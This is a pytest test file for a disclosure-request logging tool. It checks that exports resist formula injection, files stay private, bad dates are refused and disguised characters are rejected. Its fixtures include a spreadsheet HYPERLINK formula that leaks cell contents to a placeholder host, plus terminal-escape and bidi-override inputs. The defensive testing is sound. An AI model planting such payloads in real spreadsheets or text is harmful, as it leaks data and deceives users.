"""Issue 14, points 1, 6, 7, 8 and 9, as a clerk meets them through the installed command: text that would be a
formula, files other users could read, dates no office had, tracebacks instead of answers, numbers that display
as other numbers."""

from __future__ import annotations

import base64
import json
import os
import sqlite3
import stat
import subprocess
import uuid
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from domain.request import request_id
from tests.conftest import FIXTURES, GONGKAI, TODAY, Runner, lines_of, stored_events

FORMULAS = (
    '=HYPERLINK("http://example.invalid/?leak="&A1, "点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "=1+1",
    "#N/A",
    "'=1+1",  # typed with an apostrophe: must come back with it
)


def _receive(
    gongkai: Runner, number: str, *extra: str, date: str = "2026-03-02", check: bool = False
) -> subprocess.CompletedProcess[str]:
    base = ("receive", number, "--date", date, "--channel", "online", "--applicant-type", "natural_person")
    result: subprocess.CompletedProcess[str] = gongkai(*base, *extra, check=check)
    return result


def _formula_store(gongkai: Runner) -> None:
    for n, text in enumerate(FORMULAS, start=1):
        _receive(gongkai, f"F-{n}", "--applicant", text, "--subject", text, check=True)
    _receive(gongkai, "F-TAB", "--subject", "\t=1+1\n第二行", check=True)  # a subject may hold a tab, a name not
    gongkai("answer", "F-1", "--date", "2026-03-20", "--outcome", "disclosed", check=True)
    gongkai("agency-name", '=HYPERLINK("http://example.invalid")司法局', "--date", "2026-03-02", check=True)


# -- 1. text that becomes a formula ---------------------------------------------------------------------------


def test_formula_text_stays_text_in_every_workbook(gongkai: Runner, tmp_path: Path) -> None:
    _formula_store(gongkai)
    gongkai("report", "monthly", "2026-03", "--format", "xlsx", "-o", "monthly.xlsx", check=True)
    gongkai("report", "annual", "2026", "--format", "xlsx", "-o", "annual.xlsx", check=True)
    for name in ("monthly.xlsx", "annual.xlsx"):
        path = tmp_path / name
        with zipfile.ZipFile(path) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
            for sheet in sheets:
                xml = archive.read(sheet).decode()
                assert "<f>" not in xml and 't="e"' not in xml, (name, sheet)
        book = load_workbook(path)
        texts = {c.value for s in book.worksheets for row in s.iter_rows() for c in row if isinstance(c.value, str)}
        kinds = {c.data_type for s in book.worksheets for row in s.iter_rows() for c in row if c.value is not None}
        assert not kinds & {"f", "e"}, name
        assert any("=HYPERLINK" in text for text in texts), name  # the agency's name in the title, as typed
    ledger = load_workbook(tmp_path / "monthly.xlsx").worksheets[0]
    cells = {c.value for row in ledger.iter_rows() for c in row}
    assert {*FORMULAS, "\t=1+1\n第二行"} <= cells  # every applicant and subject readable, exactly as recorded


def test_csv_export_escapes_formulas_and_imports_back_exactly(gongkai: Runner, tmp_path: Path) -> None:
    _formula_store(gongkai)
    gongkai("export", "--format", "csv", "-o", "events.csv", check=True)
    text = (tmp_path / "events.csv").read_text(encoding="utf-8")
    import csv
    import io

    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
    assert "'=HYPERLINK" in text and "''=1+1" in text
    original = gongkai("export", check=True).stdout
    copy = str(tmp_path / "copy.db")
    env = {"GONGKAI_DB": copy, "GONGKAI_CIPHER_KEY": "", "GONGKAI_CIPHER_KEY_FILE": ""}
    gongkai("import", "events.csv", env=env, check=True)
    copied = gongkai("export", env=env, check=True).stdout
    assert sorted(copied.splitlines()) == sorted(original.splitlines())  # every line exactly, formulas included


# -- 6. files with personal data readable by everyone ---------------------------------------------------------


OUTPUTS = (
    ("export", "-o", "events.jsonl"),
    ("export", "--format", "csv", "-o", "events.csv"),
    ("report", "monthly", "2026-03", "--format", "xlsx", "-o", "m.xlsx"),
    ("report", "monthly", "2026-03", "--format", "html", "-o", "m.html"),
    ("report", "monthly", "2026-03", "--format", "json", "-o", "m.json"),
    ("report", "monthly", "2026-03", "--format", "markdown", "-o", "m.md"),
    ("report", "monthly", "2026-03", "-o", "m.txt"),
    ("report", "annual", "2026", "--format", "xlsx", "-o", "a.xlsx"),
    ("report", "annual", "2026", "--format", "docx", "-o", "a.docx"),
    ("report", "annual", "2026", "--format", "html", "-o", "a.html"),
    ("report", "annual", "2026", "--all-agencies", "--format", "json", "-o", "d.json"),
)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_files_written_with_o_are_private_whatever_the_umask(gongkai: Runner, tmp_path: Path) -> None:
    _receive(gongkai, "P-1", "--applicant", "欧阳娜娜", "--subject", "拆迁补偿批复", check=True)
    (tmp_path / "m.txt").write_text("an older file, readable by all")
    (tmp_path / "m.txt").chmod(0o644)
    old = os.umask(0o022)
    try:
        for args in OUTPUTS:
            gongkai(*args, check=True)
            assert _mode(tmp_path / args[-1]) == 0o600, args
    finally:
        os.umask(old)
    assert "欧阳娜娜" in (tmp_path / "events.jsonl").read_text(encoding="utf-8")
    assert not list(tmp_path.glob(".*.part")), "a temporary file was left behind"


def test_file_mode_setting_and_a_bad_one(gongkai: Runner, tmp_path: Path) -> None:
    _receive(gongkai, "P-1", check=True)
    gongkai("export", "-o", "shared.jsonl", env={"GONGKAI_FILE_MODE": "0640"}, check=True)
    assert _mode(tmp_path / "shared.jsonl") == 0o640
    bad = gongkai("export", "-o", "bad.jsonl", env={"GONGKAI_FILE_MODE": "rw-r--r--"})
    assert bad.returncode == 1 and "GONGKAI_FILE_MODE" in bad.stderr and "Traceback" not in bad.stderr
    assert not (tmp_path / "bad.jsonl").exists()
    missing = gongkai("export", "-o", "no/such/dir/x.jsonl")
    assert missing.returncode == 1 and "cannot write" in missing.stderr and "Traceback" not in missing.stderr


def test_a_refused_document_leaves_the_file_as_it_was(gongkai: Runner, tmp_path: Path) -> None:
    (tmp_path / "x.xlsx").write_bytes(b"last month's workbook")
    refused = gongkai("report", "monthly", "2007-12", "--format", "xlsx", "-o", "x.xlsx")
    assert refused.returncode == 1
    assert (tmp_path / "x.xlsx").read_bytes() == b"last month's workbook"


# -- 7. dates no office ever had --------------------------------------------------------------------------------


def test_business_dates_before_2008_are_refused_everywhere(gongkai: Runner, tmp_path: Path) -> None:
    _receive(gongkai, "D-1", check=True)
    before = stored_events(_db(gongkai))
    attempts = [
        ("receive", "D-2", "--date", "1026-03-02", "--channel", "online", "--applicant-type", "natural_person"),
        ("request-correction", "D-1", "--date", "2026-03-03", "--until", "2001-01-01"),
        ("correct", "D-1", "--date", "2026-03-03", "--reason", "录错", "--received-date", "0001-01-01"),
        ("file-monthly", "1999-12", "--date", "2026-03-03"),
        ("agency-name", "司法局", "--date", "2008-04-30"),
    ]
    for args in attempts:
        result = gongkai(*args)
        assert result.returncode == 1, (args, result.stderr)
        assert "2008-05" in result.stderr and "Traceback" not in result.stderr, result.stderr
    file = tmp_path / "old.jsonl"
    file.write_text(
        json.dumps(
            {
                "event": "received",
                "request": "D-3",
                "date": "1026-06-01",
                "channel": "mail",
                "applicant_type": "other_org",
            }
        )
        + "\n",
        encoding="utf-8",
    )
    imported = gongkai("import", str(file))
    assert imported.returncode == 1 and "line 1, field date: 1026-06-01 早于 2008-05-01" in imported.stderr
    for args in (
        ("due", "--as-of", "0001-01-01"),
        ("report", "monthly", "2007-12"),
        ("status", "D-1", "--as-of", "2008-04-30"),
    ):
        result = gongkai(*args)
        assert result.returncode == 1 and "2008-05" in result.stderr and "Traceback" not in result.stderr, args
    assert stored_events(_db(gongkai)) == before


def _db(gongkai: Runner) -> str:
    info = json.loads(gongkai("info", check=True).stdout)
    return str(info["store"])


def test_ledger_row_dated_before_2008_is_refused(gongkai: Runner, tmp_path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["受理编号", "收到申请日期", "申请渠道", "申请人类别"])
    sheet.append(["L-1", "2026-03-02", "网上申请", "自然人"])
    sheet.append(["L-2", "1026-03-02", "网上申请", "自然人"])
    book.save(tmp_path / "台账.xlsx")
    result = gongkai("import-ledger", str(tmp_path / "台账.xlsx"))
    assert result.returncode == 1, result.stderr
    assert "1026-03-02 早于 2008-05-01" in result.stderr and "row 3" in result.stderr
    assert stored_events(_db(gongkai)) == 0


# -- 8. tracebacks instead of answers ----------------------------------------------------------------------


def test_control_characters_in_names_and_odd_periods_get_answers(gongkai: Runner) -> None:
    _receive(gongkai, "T-1", check=True)
    attempts: list[tuple[tuple[str, ...], dict[str, str], int]] = [
        (("--clerk", "\x1b[31m王芳\x1b[0m", "register", "T-1", "--date", "2026-03-03"), {}, 1),
        (("register", "T-1", "--date", "2026-03-03"), {"GONGKAI_CLERK": "王\x1b]0;x\x07芳"}, 1),
        (("agency-name", "\x1b[2J司法局", "--date", "2026-03-03"), {}, 1),
        (("agency-name", "司法局\u009b2J", "--date", "2026-03-03"), {}, 1),
        (("--agency", "YZ\u202eSFJ", "list"), {}, 1),
        (("report", "monthly", "2026-13"), {}, 2),
        (("report", "monthly", "9999-12"), {}, 1),
        (("due", "--as-of", "9999-12-31"), {}, 1),
        (("due", "--as-of", "2026-02-30"), {}, 2),
        (("status", "T-1", "--as-of", "9999-12-31"), {}, 1),
    ]
    for args, env, status in attempts:
        result = gongkai(*args, env=env)
        assert result.returncode == status, (args, result.returncode, result.stderr)
        assert "Traceback" not in result.stderr and result.stderr.strip(), (args, result.stderr)
    shown = gongkai("show", "T-1", check=True).stdout
    assert "registered" not in shown and "\x1b" not in shown


def _sqlite_run(db: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    environment = {**os.environ, "GONGKAI_DB": str(db), "GONGKAI_TODAY": TODAY.isoformat(), "GONGKAI_CLERK": "王芳"}
    environment.update(env or {})
    return subprocess.run(
        [str(GONGKAI), *args], capture_output=True, text=True, env=environment, cwd=db.parent, timeout=120
    )


def _damage(db: Path, number: str, how: str) -> int:
    """Spoil the stored row of an application's receipt with sqlite3; return its position in the log."""
    aggregate = request_id("DEFAULT", number)
    with sqlite3.connect(db) as connection:
        rows = connection.execute(
            "SELECT rowid FROM stored_events WHERE originator_id = ? AND originator_version = 1",
            [aggregate.hex],
        ).fetchall()
        assert len(rows) == 1
        position = int(rows[0][0])
        if how == "json":
            connection.execute("UPDATE stored_events SET state = X'7B226E6F7420' WHERE rowid = ?", [position])
        else:  # one byte of the AES-GCM ciphertext flipped, still a BLOB
            state = bytearray(
                connection.execute("SELECT state FROM stored_events WHERE rowid = ?", [position]).fetchone()[0]
            )
            state[20] ^= 0xFF
            connection.execute("UPDATE stored_events SET state = ? WHERE rowid = ?", [bytes(state), position])
    return position


@pytest.mark.parametrize("how", ["json", "ciphertext"])
def test_one_damaged_stored_event_is_named_and_worked_around(how: str, tmp_path: Path) -> None:
    db = tmp_path / "store.db"
    env: dict[str, str] = {"GONGKAI_CIPHER_KEY": "", "GONGKAI_CIPHER_KEY_FILE": ""}
    if how == "ciphertext":
        env["GONGKAI_CIPHER_KEY"] = base64.b64encode(os.urandom(32)).decode()
    for number in ("G-1", "G-2", "G-3"):
        base = ("receive", number, "--date", "2026-03-02", "--channel", "mail", "--applicant-type", "other_org")
        assert _sqlite_run(db, *base, "--applicant", f"申请人{number}", env=env).returncode == 0
    position = _damage(db, "G-2", how)

    shown = _sqlite_run(db, "show", "G-2", env=env)
    assert shown.returncode == 1 and "Traceback" not in shown.stderr
    assert str(request_id("DEFAULT", "G-2")) in shown.stderr and "gongkai verify" in shown.stderr
    assert "损坏" in shown.stderr
    other = _sqlite_run(db, "show", "G-3", env=env)
    assert other.returncode == 0 and "申请人G-3" in other.stdout

    exported = _sqlite_run(db, "export", "-o", "events.jsonl", env=env)
    assert exported.returncode == 1 and "Traceback" not in exported.stderr
    assert f"#{position}" in exported.stderr and "gongkai verify" in exported.stderr
    numbers = [line["request"] for line in lines_of(tmp_path / "events.jsonl")]
    assert numbers == ["G-1", "G-3"]

    verified = _sqlite_run(db, "verify", env=env)
    assert verified.returncode == 1 and f"event #{position}" in verified.stderr


# -- 9. invisible characters in numbers -----------------------------------------------------------------------


def test_full_width_numbers_are_one_number_and_hidden_characters_are_refused(gongkai: Runner) -> None:
    _receive(gongkai, "ＹＺ－２０２６－０００１", check=True)
    registered = gongkai("register", "YZ-2026-0001", "--date", "2026-03-03")
    assert registered.returncode == 0, registered.stderr
    shown = gongkai("show", "ＹＺ－２０２６－０００１", check=True).stdout
    assert "YZ-2026-0001" in shown and "ＹＺ" not in shown
    again = gongkai(
        "receive", "YZ-2026-0001", "--date", "2026-03-02", "--channel", "mail", "--applicant-type", "other_org"
    )
    assert again.returncode == 1 and "already received" in again.stderr
    for number in ("YZ-2026-\u202e1000", "YZ\u200b-2026-0002", "YZ-\u2066-0003", "YZ\ufeff-0004", "YZ\u00ad0005"):
        refused = _receive(gongkai, number)
        assert refused.returncode == 1 and "Traceback" not in refused.stderr, number
        assert "U+" in refused.stderr or "control characters" in refused.stderr, refused.stderr
        looked_up = gongkai("show", number)
        assert looked_up.returncode == 1 and "Traceback" not in looked_up.stderr
    listed = json.loads(gongkai("list", "--format", "json", check=True).stdout)
    assert [row["request"] for row in listed] == ["YZ-2026-0001"]


def test_numbers_nfkc_keeps_keep_their_ids() -> None:
    """Official numbers with 〔〕 are left as they are, so their aggregate ids (uuid5 of the number) do not move."""
    from domain.hygiene import clean_identifier

    for number in ("鄞司依申〔2020〕2号", "甬政复〔2024〕17号", "YZ-2026-0007", "浙政公开[2021]3号"):
        assert clean_identifier(number) == number
        assert request_id("A", clean_identifier(number)) == uuid.uuid5(
            uuid.NAMESPACE_URL, f"gongkai:request:A:{number}"
        )
    assert clean_identifier("鄞司依申（2020）2号") == "鄞司依申(2020)2号"  # full-width parentheses fold (the choice)


def test_every_fixture_number_is_already_normal() -> None:
    """No stored number of the fixtures changes under NFKC: their ids stay those of their numbers."""
    import unicodedata

    for path in FIXTURES.glob("*.jsonl"):
        for line in lines_of(path):
            for key in ("request", "case", "agency"):
                value = line.get(key)
                if isinstance(value, str):
                    assert unicodedata.normalize("NFKC", value) == value, (path.name, value)


# -- 7. one sweep does not flood the office ----------------------------------------------------------------


def test_one_sweep_sends_a_bounded_number_of_overdue_reminders(gongkai: Runner, tmp_path: Path) -> None:
    lines = [
        {
            "event": "received",
            "request": f"OLD-{n}",
            "date": "2026-09-01",
            "channel": "mail",
            "applicant_type": "natural_person",
        }
        for n in range(1, 13)
    ]
    (tmp_path / "old.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    gongkai("import", "old.jsonl", check=True)
    settings = tmp_path / "settings.toml"
    settings.write_text("[reminders]\nmax_overdue_per_sweep = 5\n", encoding="utf-8")
    env = {"GONGKAI_NOW": "2026-11-25T10:00:00+08:00", "GONGKAI_SETTINGS": str(settings)}
    first = gongkai("scheduler", "run", "--once", env=env)
    summary = json.loads(first.stdout)
    assert summary["sent"] == 5, (summary, first.stderr)
    assert summary["overdue_held"] >= 19  # 12 报备 and 12 replies overdue, and the monthly filings
    held = [line for line in first.stderr.splitlines() if "overdue_reminders_held" in line]
    assert len(held) == 1, first.stderr
    bad = tmp_path / "bad.toml"
    bad.write_text("[reminders]\nmax_overdue_per_sweep = 0\n", encoding="utf-8")
    refused = gongkai("scheduler", "run", "--once", env={**env, "GONGKAI_SETTINGS": str(bad)})
    assert refused.returncode == 1 and "max_overdue_per_sweep" in refused.stderr and "Traceback" not in refused.stderr
